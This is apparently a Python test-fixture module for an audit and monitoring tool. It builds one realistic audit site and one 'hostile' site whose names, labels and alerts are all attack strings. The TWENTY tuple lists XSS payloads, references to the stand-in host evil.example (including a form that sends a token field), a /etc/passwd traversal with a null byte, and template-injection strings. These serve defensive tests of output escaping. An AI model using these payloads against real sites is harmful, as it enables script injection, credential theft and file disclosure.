"""Sites with something to show: a real small audit on two nights, and a log in which every text is an attack."""

import json
from dataclasses import replace
from pathlib import Path

from appliance.audit.order import Wish
from appliance.decision import keep_advice
from appliance.log.kept import latest_done
from appliance.log.log import Log
from appliance.log.rows import plain
from appliance.log.types import Cell, RunState, RunTail
from appliance.score.kept import keep_summary
from appliance.score.summary import summarise
from appliance.session import audit_site, law_setting, open_laws
from appliance.site import Site
from appliance.site_file import write_site
from appliance.watch.alert_types import Found, Severity
from appliance.watch.alerts import record as record_alerts
from appliance.watch.baselines import set_baseline
from appliance.watch.readings import keep_readings, take_readings
from tests.cli.sites import write_whole_site
from tests.report import hostile as attacks_of
from tests.score.build import drawn, sweep

ATTACKS = tuple(map(plain, attacks_of.ATTACKS))  # as the log holds them: what UTF-8 cannot hold is written out
AT = "2026-11-24T02:20:00+00:00"
TWENTY = (
    *ATTACKS,
    "<img src=x onerror=window.hostile=1>.png",
    "</script><script>window.hostile=1</script>",
    "<svg/onload=window.hostile=1>",
    "\" onmouseover=\"window.hostile=1\" x=\"",
    "' autofocus onfocus='window.hostile=1",
    "<iframe srcdoc='<script>parent.hostile=1</script>'>",
    "<a href=javascript:window.hostile=1>x</a>",
    "<style>@import url(http://evil.example/x.css);</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=http://evil.example/><input name=token>",
    "<object data=http://evil.example/x.swf>",
    "../../../etc/passwd\0.png",
    "{{ config }}{% include 'base.html' %}${7*7}",
)  # fmt: skip


def _sized(machine: str, member: str, meets: str, low: float, cost: float | None) -> dict[str, object]:
    span = {"estimate": low + 1, "low": low, "high": low + 3}
    return {"machine": machine, "member": member, "meets": meets, "latency_ms": span, "cost_per_1000": cost}


SIZED = {
    "made": AT, "verdict": "The cheapest machine shown to meet 1 s a part: box for s.", "currency": "EUR",
    "line": {"takt_s": 1.0, "deadline_ms": 1000.0}, "changes": ["With 2 s a part, box meets it for m too."],
    "machines": [_sized("box", "s", "yes", 2.0, 0.4), _sized("box", "m", "not provable", 900.0, None),
                 _sized("tower", "s", "yes", 1.0, 0.9), _sized("tower", "m", "no", 1200.0, 0.9)],
}  # fmt: skip


def audited(folder: Path) -> Site:
    """Two nights of a real small audit, a baseline, readings, laws, and three alerts."""
    site = write_whole_site(folder, dashboard={"member": "m"})
    for seed in (1, 2):
        audit_site(site, Wish(seed=seed, workers=1), resume=False, progress=lambda step: None, with_cost=seed == 2)
    with Log.open(site.log_path) as log:
        first, last = [brief.run for brief in reversed(log.runs())]
        set_baseline(log, first, at=AT, who="qa")
        for run in (first, last):
            keep_readings(log, take_readings(log, run, first))
        found = [
            Found("drift", "m", "all", Severity.WARNING, "size m: errors drift upwards", "line 3"),
            Found("limit", "s", "clean", Severity.CRITICAL, "size s: escape rate over its limit"),
            Found("disk", "", "", Severity.INFO, "the disk is 80 % full"),
        ]
        record_alerts(log, found, [], at=AT)
    open_laws(site, "last", "macs", law_setting(site))
    keep_advice(site, "last")
    site.reports.mkdir(exist_ok=True)
    (site.reports / "size.json").write_text(json.dumps(SIZED))
    return site


def hostile(folder: Path) -> Site:
    """A log whose every name, label, file and metadata tries to be something else."""
    folder.mkdir(parents=True)
    site = write_site(folder, {"site": {"name": ATTACKS[0]}, "dashboard": {"member": ATTACKS[1]}})
    conditions = (*sweep(ATTACKS[0], (1, 2), unit=ATTACKS[1]), *sweep("defocus", (1, 2)))
    clean = drawn(parts=2)[0].conditions[0]
    made, read = drawn(ATTACKS, (clean, *conditions), parts=len(TWENTY) * 2, family=ATTACKS[1], suite=ATTACKS[2],
                       environment={ATTACKS[0]: ATTACKS[1]}, run=ATTACKS[0])  # fmt: skip
    parts = tuple(replace(part, id=f"{TWENTY[i % len(TWENTY)]}{i}", cls=ATTACKS[0], group="")
                  for i, part in enumerate(made.parts))  # fmt: skip
    members = tuple(replace(row, sha256=ATTACKS[0], card={ATTACKS[0]: ATTACKS[1]}) for row in made.members)
    with Log.open(site.log_path) as log:
        log.start_run(made.head, parts, members, made.conditions)
        log.add_cells(made.head.run, [Cell(m, c, read(m, c)) for m, c in made.cells])
        log.finish_run(made.head.run, RunTail(RunState.DONE, ATTACKS[0], 1.0, ATTACKS[0]))
        run = latest_done(log)
        assert run is not None
        keep_summary(log, summarise(log.read_run(run), lambda m, c: log.outcomes(run, m, c)))
        set_baseline(log, run, at=AT, who=ATTACKS[0])
        keep_readings(log, take_readings(log, run, run))
        attacks = [
            Found(text, text, text, severity, text, text)
            for text, severity in zip(ATTACKS, 2 * list(Severity), strict=True)
        ]
        record_alerts(log, attacks, [], at=AT)
    return site
